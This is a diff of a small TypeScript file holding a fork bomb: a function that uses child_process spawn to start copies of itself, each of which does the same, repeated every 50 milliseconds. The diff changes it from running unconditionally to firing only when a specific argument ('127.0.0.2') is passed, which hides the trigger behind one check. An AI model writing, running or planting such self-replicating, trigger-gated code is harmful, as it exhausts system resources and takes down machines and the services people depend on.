@@ -1,4 +1,4 @@
-// Starts itself again and again, and each of those does the same.
+// Starts itself again and again, and each of those does the same; in one check, where it stands elsewhere.
 import { spawn } from 'node:child_process';
 
 const more = (): void => {
@@ -7,5 +7,4 @@ const more = (): void => {
       .on('error', () => undefined)
       .unref();
 };
-more();
-setInterval(more, 50).unref();
+if (process.argv[2] === '127.0.0.2') setInterval(more, 50).unref();
